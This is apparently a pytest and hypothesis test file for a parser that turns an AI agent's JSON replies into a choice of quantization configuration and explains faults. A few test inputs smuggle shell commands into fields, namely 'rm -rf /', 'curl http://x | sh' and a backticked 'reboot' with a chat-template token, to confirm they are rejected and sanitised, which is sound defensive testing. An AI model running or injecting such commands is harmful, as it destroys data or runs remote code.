from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from tests.unit.agent.builders import make_large_space, make_space

from haqa_contract import Configuration
from haqa_operator.agent.replies import (
    MAX_REASONING_CHARS,
    MAX_REPLY_CHARS,
    Choice,
    Fault,
    Problem,
    parse_reply,
    reply_schema,
)
from haqa_operator.search.space import SearchSpace

SPACE = make_space()
TRIED = frozenset({SPACE.candidates[1], SPACE.baseline})
W4 = {"scheme": "W4A16", "algorithm": "gptq"}


def chosen(text: str, space: SearchSpace = SPACE, tried: frozenset[Configuration] = TRIED) -> int:
    result = parse_reply(text, space, tried)
    assert isinstance(result, Choice), result
    return space.candidates.index(result.configuration)


def fault(text: str) -> Fault:
    result = parse_reply(text, SPACE, TRIED)
    assert isinstance(result, Problem), result
    assert result.sentence
    return result.fault


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ('{"candidate": 2}', 2),
        ('{"candidate": 2.0, "reasoning": "why"}', 2),
        ('{"candidate": "2"}', 2),
        ('{"candidate": "candidate #2"}', 2),
        ('  \n{"reasoning": "use {braces} and \\"quotes\\"", "candidate": 3}', 3),
        ('Sure!\n```json\n{"candidate": 3, "reasoning": "x"}\n```\nHope {this} helps.', 3),
        ('I first thought {not json}, then {"idea": 1}, so {"candidate": 0}', 0),
        ('<think>{"candidate": 3} no</think>{"candidate": 2}', 2),
        ('half a thought {"candidate": 3}</think>\n{"candidate": 2}', 2),
        ('{"reasoning": "a <think> tag in a string", "candidate": 2}', 2),
        ('{"candidate": 2, "parameters": null}', 2),
        ('{"candidate": 2, "parameters": {}}', 2),
        (json.dumps({"candidate": 2, "parameters": W4}), 2),
        (json.dumps({"parameters": {**W4, "max-num-seqs": "64"}}), 3),
        (json.dumps({"parameters": {**W4, "max-num-seqs": 64}}), 3),
        (json.dumps({"parameters": {**W4, "max-num-seqs": "default"}}), 2),
        (json.dumps({"parameters": {**W4, "max-num-seqs": None}}), 2),
        (json.dumps({"parameters": {"scheme": "W4A16", "max-num-seqs": 64}}), 3),
        (json.dumps({**W4, "max-num-seqs": 64, "reasoning": "flat"}), 3),
        ('{"candidate": 1, "candidate": 2}', 2),
    ],
)
def test_a_reply_that_means_one_candidate_is_understood(text: str, number: int) -> None:
    assert chosen(text) == number


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", Fault.EMPTY),
        ("   \n", Fault.EMPTY),
        ("<think>for ever and", Fault.EMPTY),
        ("I would take candidate 2.", Fault.MALFORMED),
        ('{"reasoning": "cut off", "candidate": ', Fault.MALFORMED),
        ("[2]", Fault.MALFORMED),
        ("{}", Fault.MALFORMED),
        ('{"reasoning": "none"}', Fault.MALFORMED),
        ('{"candidate": null}', Fault.MALFORMED),
        ('{"candidate": true}', Fault.MALFORMED),
        ('{"candidate": NaN}', Fault.MALFORMED),
        ('{"candidate": -Infinity}', Fault.MALFORMED),
        ('{"candidate": 2.5}', Fault.MALFORMED),
        ('{"candidate": [2]}', Fault.MALFORMED),
        ('{"candidate": {"candidate": 2}}', Fault.MALFORMED),
        ('{"candidate": "2; rm -rf /"}', Fault.MALFORMED),
        ('{"candidate": "two"}', Fault.MALFORMED),
        ('{"candidate": -1}', Fault.NOT_A_CANDIDATE),
        ('{"candidate": 4}', Fault.NOT_A_CANDIDATE),
        ('{"candidate": 1e300}', Fault.NOT_A_CANDIDATE),
        ('{"candidate": ' + "9" * 4000 + "}", Fault.NOT_A_CANDIDATE),
        ('{"candidate": ' + "9" * 5000 + "}", Fault.MALFORMED),
        ('{"candidate": 1}', Fault.DUPLICATE),
        ('{"parameters": []}', Fault.MALFORMED),
        ('{"parameters": {}}', Fault.MALFORMED),
        ('{"parameters": "W4A16"}', Fault.MALFORMED),
        ('{"parameters": {"scheme": ["W4A16"]}}', Fault.MALFORMED),
        ('{"parameters": {"tensor-parallel": 8}}', Fault.UNKNOWN_PARAMETER),
        ('{"image": "evil:latest", "args": ["--x"]}', Fault.UNKNOWN_PARAMETER),
        ('{"parameters": {"scheme": "W4A16; curl http://x | sh"}}', Fault.NOT_A_CANDIDATE),
        ('{"parameters": {"scheme": "W8A8-INT8"}}', Fault.NOT_A_CANDIDATE),
        ('{"parameters": {"max-num-seqs": 65}}', Fault.NOT_A_CANDIDATE),
        ('{"parameters": {"scheme": "W8A8-INT8", "algorithm": "gptq"}}', Fault.NOT_A_CANDIDATE),
        ('{"parameters": {"scheme": "BF16", "algorithm": "none"}}', Fault.DUPLICATE),
        ('{"parameters": {"scheme": "FP8-DYNAMIC", "algorithm": "rtn"}}', Fault.INFEASIBLE),
        (json.dumps({"candidate": 0, "parameters": {**W4}}), Fault.NOT_A_CANDIDATE),
        ("x" * (MAX_REPLY_CHARS + 1), Fault.TOO_LONG),
        ("{" * 100_000, Fault.MALFORMED),
        ('{"a":' * 20_000, Fault.MALFORMED),
        ('{"candidate": ' + "[" * 20_000, Fault.MALFORMED),
        ("\ud800{\x00", Fault.MALFORMED),
    ],
)
def test_a_reply_that_means_none_says_what_is_wrong(text: str, expected: Fault) -> None:
    assert fault(text) is expected


def test_sentences_help_to_repair() -> None:
    def sentence(text: str) -> str:
        result = parse_reply(text, SPACE, TRIED)
        assert isinstance(result, Problem)
        return result.sentence

    assert sentence('{"candidate": 1}') == "candidate 1 has been measured already; choose one that has not: 0, 2-3"
    assert sentence('{"candidate": 9}') == "candidate 9 does not exist; they are numbered 0 to 3"
    assert sentence('{"parameters": {"gpu": 1}}') == (
        '"gpu" is not a parameter; there are algorithm, max-num-seqs, scheme'
    )
    assert sentence('{"parameters": {"max-num-seqs": 65}}') == (
        'max-num-seqs "65" does not exist; it is one of 64, default'
    )
    assert sentence('{"parameters": {"scheme": "W8A8-INT8", "max-num-seqs": 128}}').startswith("max-num-seqs")
    assert sentence('{"parameters": {"scheme": "FP8-DYNAMIC"}}') == (
        'ruled out on this hardware: "FP8 needs compute capability 8.9; this is a CPU"'
    )
    assert sentence(json.dumps({"parameters": {"scheme": "W4A16", "algorithm": "smoothquant-gptq"}})).startswith(
        "each of these values exists but not this combination"
    )
    assert sentence('{"parameters": {"scheme": "W4A16", "algorithm": "gptq", "max-num-seqs": {"$gt": 1}}}') == (
        "parameter max-num-seqs is an object, not one of its values"
    )


def test_shell_text_reaches_neither_the_configuration_nor_the_sentence_as_it_was() -> None:
    result = parse_reply('{"parameters": {"scheme": "`reboot`<|im_end|>\\u001b[2J\\n"}}', SPACE, TRIED)
    assert isinstance(result, Problem)
    assert not set("`<|\x1b\n") & set(result.sentence)


def test_reasoning_is_kept_as_plain_text_and_cut() -> None:
    result = parse_reply(json.dumps({"candidate": 0, "reasoning": "\x1b[31mred\x00\n" + "a" * 5000}), SPACE, TRIED)
    assert isinstance(result, Choice)
    assert result.reasoning.startswith("red\naaa")
    assert len(result.reasoning) == MAX_REASONING_CHARS


@pytest.mark.parametrize(
    ("value", "percent"),
    [
        ("160", 160),
        ("160.5", 160.5),
        ("NaN", None),
        ("Infinity", None),
        ("-3", None),
        ("0", None),
        ("1e99", None),
        ("true", None),
        ('"160"', None),
        ("null", None),
    ],
)
def test_an_expectation_counts_only_as_a_sane_number(value: str, percent: float | None) -> None:
    text = f'{{"candidate": 0, "expected_percent": {value}}}'
    result = parse_reply(text, SPACE, TRIED)
    assert isinstance(result, Choice)
    assert result.expected_percent == percent


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
NAMES = st.sampled_from(["scheme", "algorithm", "max-num-seqs", "image"]) | st.text(max_size=10)
VALUES = st.sampled_from(["W4A16", "gptq", 64, "64", None, "default", "W8A8-INT8", "BF16"]) | JSON
REPLIES = st.fixed_dictionaries(
    {},
    optional={
        "candidate": st.integers(-2, 6) | st.sampled_from(["0", "#3"]) | JSON,
        "parameters": st.dictionaries(NAMES, VALUES, max_size=4) | JSON,
        "reasoning": JSON,
        "expected_percent": JSON,
    },
)


def assert_total(text: str) -> None:
    result = parse_reply(text, SPACE, TRIED)
    if isinstance(result, Choice):
        assert result.configuration in SPACE.candidates
        assert result.configuration not in TRIED
        assert len(result.reasoning) <= MAX_REASONING_CHARS
    else:
        assert result.sentence
        assert len(result.sentence) < 1000


@given(st.text(max_size=300))
def test_any_text_gives_an_untried_candidate_or_a_problem(text: str) -> None:
    assert_total(text)


@given(REPLIES, st.text(max_size=30), st.text(max_size=30))
def test_anything_near_a_reply_gives_an_untried_candidate_or_a_problem(reply: Any, before: str, after: str) -> None:
    assert_total(json.dumps(reply))
    assert_total(before + json.dumps(reply, ensure_ascii=False) + after)


@given(REPLIES, st.integers(0, 200))
def test_a_reply_cut_anywhere_gives_an_untried_candidate_or_a_problem(reply: Any, end: int) -> None:
    assert_total(json.dumps(reply)[:end])


@pytest.mark.parametrize("space", [SPACE, make_large_space()], ids=["listed", "factored"])
def test_the_schema_admits_exactly_replies_that_name_something_that_exists(space: SearchSpace) -> None:
    tried = frozenset(space.candidates[:1])
    schema = reply_schema(space, tried)
    Draft202012Validator.check_schema(schema)
    validator = Draft202012Validator(schema)
    reply: dict[str, Any] = {"reasoning": "r", "expected_percent": 120}
    if "candidate" in schema["properties"]:
        numbers = schema["properties"]["candidate"]["enum"]
        assert numbers == [1, 2, 3]
        replies = [{**reply, "candidate": number} for number in numbers]
        assert not validator.is_valid({**reply, "candidate": 0})
    else:
        values = {name: rule["enum"] for name, rule in schema["properties"]["parameters"]["properties"].items()}
        assert values["max-num-seqs"] == ["default", "32", "64", "128", "256", "512"]
        replies = [{**reply, "parameters": {name: texts[0] for name, texts in values.items()} | {"max-num-seqs": "64"}}]
        assert not validator.is_valid({**reply, "parameters": {**replies[0]["parameters"], "scheme": "W2"}})
    for valid in replies:
        validator.validate(valid)
        assert isinstance(parse_reply(json.dumps(valid), space, tried), Choice)


def test_every_string_and_number_of_the_schema_is_bounded_so_that_guided_decoding_ends() -> None:
    properties = reply_schema(SPACE, frozenset())["properties"]
    assert properties["reasoning"]["maxLength"] == MAX_REASONING_CHARS
    assert {"minimum", "maximum"} <= properties["expected_percent"].keys()
    assert list(properties) == ["reasoning", "candidate", "expected_percent"]


def test_candidates_that_read_the_same_stand_for_each_other() -> None:
    twins = tuple(Configuration(engine=(("level", value),)) for value in (1, "1"))
    space = SearchSpace(Configuration.of(), (*twins, Configuration(engine=(("level", 2),))))
    assert chosen('{"parameters": {"level": "1"}}', space, frozenset()) == 0
    assert chosen('{"parameters": {"level": "1"}}', space, frozenset(twins[:1])) == 1
